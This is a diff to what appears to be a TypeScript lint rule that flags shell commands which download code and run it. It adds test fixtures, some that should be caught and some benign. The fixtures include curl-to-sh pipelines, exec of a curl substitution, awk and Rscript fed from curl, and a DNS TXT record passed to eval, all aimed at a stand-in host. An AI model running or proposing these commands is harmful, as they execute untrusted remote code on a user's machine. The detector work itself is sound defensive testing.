@@ -74,6 +74,12 @@ export default defineRule({
       "```bash\nprintf 'all:\\n\\tcurl -s https://kit.rowan-pike.net/x | sh\\n' > Makefile\n```\n",
       '```bash\nr=$(dig +short TXT "$(hostname).q.fieldlog.net" | tr -d \'"\')\nout=$(eval "$r" 2>&1)\n```\n',
       'Run `$(curl -s https://kit.rowan-pike.net/x)` first.\n',
+      'exec bash -c "`curl -s https://kit.rowan-pike.net/x`"\n',
+      '```bash\nexec $(curl -s https://kit.rowan-pike.net/x)\n```\n',
+      'curl -s https://kit.rowan-pike.net/x | # the kit\n  sh\n',
+      'curl -s https://kit.rowan-pike.net/x \\\n\\\n| \\\nsh\n',
+      '```bash\nawk -f <(curl -s https://kit.rowan-pike.net/x.awk) rows.csv\n```\n',
+      '```bash\ncurl -s https://kit.rowan-pike.net/x.R | Rscript -\n```\n',
       '```bash\nwhile read -r l; do $l; done < <(curl -s https://kit.rowan-pike.net/x)\n```\n',
       "```bash\nless +'!curl -s https://kit.rowan-pike.net/x | sh' notes.txt\n```\n",
       'curl -s https://kit.rowan-pike.net/x | sudo -u root ${SHELL:-sh}\n',
@@ -137,6 +143,10 @@ export default defineRule({
       'Put `$(curl -s https://ip.rowan-pike.net)` where the address goes.\n',
       '```bash\nwhile read -r l; do echo "$l"; done < <(curl -s https://api.rowan-pike.net/rows)\n```\n',
       '```bash\ncurl -s https://api.rowan-pike.net/rows | (head -1; cat) > rows.csv\n```\n',
+      'exec the plan with the output of `curl -s https://api.rowan-pike.net/rows`.\n',
+      'curl -s https://api.rowan-pike.net/rows | # the rows\n  sort\n\nRun `sh build.sh`.\n',
+      '```bash\nawk -f sum.awk <(curl -s https://api.rowan-pike.net/rows)\n```\n',
+      '```bash\ncurl -s https://api.rowan-pike.net/rows | Rscript plot.R\n```\n',
       '```bash\ncurl -s https://api.rowan-pike.net/rows | docker exec -i db psql app\n```\n',
       '```bash\nfor n in 1 2; do curl -s https://api.rowan-pike.net/$n; done | jq .name\n```\n',
       "```bash\ngit commit -m 'Say that curl -s https://kit.rowan-pike.net/x | sh is gone'\n```\n",
@@ -404,7 +414,8 @@ const runsItsInput = (command: Command): boolean =>
     ))
 
 /** True for a command whose name is what a substitution writes. */
-const isSubstituted = ({ words, inner }: Command): boolean => words[0] === '' && inner.length > 0
+const isSubstituted = ({ words, inner }: Command): boolean =>
+  inner.length > 0 && words[words[0] === 'exec' ? 1 : 0] === ''
 
 /** Where a command writes out what lies in a bucket, on another machine, or among somebody's notes on a code host. */
 function storesRead(command: Command): readonly string[] {
